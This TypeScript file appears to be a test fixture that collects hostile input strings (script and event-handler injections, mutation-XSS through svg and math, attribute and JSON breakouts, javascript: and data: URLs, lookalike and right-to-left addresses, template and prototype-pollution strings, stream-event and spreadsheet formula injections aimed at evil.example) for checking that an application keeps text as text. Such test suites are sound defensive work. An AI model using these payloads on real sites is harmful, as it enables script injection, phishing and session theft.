/**
 * Words as hostile people write them, our own collection: each would run, break out, hide or steer where text is not
 * kept as text. Whatever runs calls `hit()`, which a test puts on the page.
 */
const run = 'hit()';

/** Tags and what stands in them. */
const markup = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<SCRIPT >${run}</SCRIPT >`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script src=data:text/javascript,${run}></script>`,
  `<img src=x onerror=${run}>`,
  `<img/src=x/onerror=${run}//`,
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>`,
  `<div style="animation-name:x" onanimationstart=${run}>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>*{display:none}</style>`,
  `<form action="https://evil.example/"><button>Sign in</button>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  '<plaintext>',
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
];
/** Out of an attribute, a text field, a title, a JSON value. */
const outOf = [
  `" onmouseover=${run} x="`,
  `' autofocus onfocus=${run} x='`,
  `"><img src=x onerror=${run}>`,
  `'><svg onload=${run}>`,
  `</textarea><img src=x onerror=${run}>`,
  `</title><img src=x onerror=${run}>`,
  `</option></select><img src=x onerror=${run}>`,
  `</style><img src=x onerror=${run}>`,
  `"}];${run};//`,
  `\\"};${run};//`,
  `&quot;&gt;&lt;img src=x onerror=${run}&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `\u2028${run}\u2029//`,
];
/** Pictures that are programs, and what parsers make of nested ones. */
const pictures = [
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
];
/** Addresses that run, or lead elsewhere than they read. */
const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `\u0001javascript:${run}`,
  `javascript://harbor.example/%0a${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==`,
  `vbscript:${run}`,
  `https://harbor.example"onmouseover=${run}//`,
  'https://hаrbor.example/sign-in',
  'https://harbor.example@evil.example/',
  'https://harbor.example/\u202egpj.exe',
  '//evil.example/x',
];
/** Templates, streams, tables: a line that another reader would take for its own. */
const readers = [
  '{{constructor.constructor("hit()")()}}',
  `\${${run}}`,
  '<%= hit() %>',
  '#{hit()}',
  '__proto__',
  '{"__proto__":{"hit":1}}',
  'a\n\ndata: {"kind":"message"}\n\n',
  'a\r\ndata: {}\r\nevent: end\r\n\r\n',
  'id: 999999\nretry: 1\nevent: notice\n\n',
  ':\n\n: beat',
  '=HYPERLINK("https://evil.example","Open")',
  '+1+cmd|x!A0',
  '-2+3',
  '@SUM(1,1)',
  '\tx,"y"\n',
];
/** Letters that hide, turn or never end. */
const letters = [
  '\u202eevil\u202c',
  '\u2066\u202etxt.exe\u2069',
  'A\u200bd\u200da\ufeff',
  'Z\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308a\u0301\u0302\u0303\u0304lgo',
  `null\u0000byte<img src=x onerror=${run}>`,
  '\ud83d half a pair',
  'x'.repeat(3900),
  'W '.repeat(1900),
];

/** All of them. */
export const hostile: readonly string[] = [...markup, ...outOf, ...pictures, ...addresses, ...readers, ...letters];

/** The same as one line of at most so many characters, for fields that take no more. */
export const hostileLine = (text: string, most: number): string =>
  text
    .replace(/\p{Cc}+/gu, ' ')
    .trim()
    .slice(0, most)
    .trim();
